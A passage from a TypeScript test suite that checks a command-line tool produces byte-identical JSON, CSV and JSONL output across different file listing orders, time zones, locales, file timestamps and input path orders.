    for (const [name, bytes] of files) {
      const file = path.join(dir, 'inputs', name)
      mkdirSync(path.dirname(file), { recursive: true })
      writeFileSync(file, bytes)
      utimesSync(file, mtime, mtime)
    }
    return dir
  }

  it('gives byte-identical output whatever the listing order, time zone, locale and file times', () => {
    const sorted = tree('sorted', new Date('2001-02-03T04:05:06Z'))
    const reversed = tree('reversed', new Date('2030-12-31T23:59:59Z'))
    const runs = [
      { dir: sorted, env: { TZ: 'UTC', LANG: 'C', LC_ALL: 'C' } },
      { dir: reversed, env: { TZ: 'Pacific/Kiritimati', LANG: 'lt_LT.UTF-8', LC_ALL: 'lt_LT.UTF-8' } },
      { dir: reversed, env: { TZ: 'America/St_Johns', LANG: 'tr_TR.UTF-8', LC_ALL: 'tr_TR.UTF-8' } },
      { dir: sorted, env: { TZ: 'Asia/Kathmandu', LANG: 'et_EE.UTF-8', LC_ALL: 'et_EE.UTF-8' } },
    ]
    for (const format of ['json', 'csv']) {
      const outputs = runs.map(({ dir, env }) => runBuilt(['inputs', '-f', format, '-v', '--no-color'], { cwd: dir, env }))
      for (const output of outputs) expect(output.status).toBe(1)
      const [first, ...others] = outputs
      expect(first!.stdout.length).toBeGreaterThan(1000)
      for (const other of others) {
        expect(other.stdout.equals(first!.stdout)).toBe(true)
        expect(other.stderr.toString()).toBe(first!.stderr.toString())
      }
    }
  }, 120_000)

  it('gives the same bytes whatever order the paths are named in', async () => {
    const one = await runCli(['seeds/', 'fixtures/hostile/', '-f', 'jsonl'])
    const other = await runCli(['fixtures/hostile', './seeds', '-f', 'jsonl'])
    expect(other.stdout).toBe(one.stdout)
    expect(other.code).toBe(one.code)
  })
})
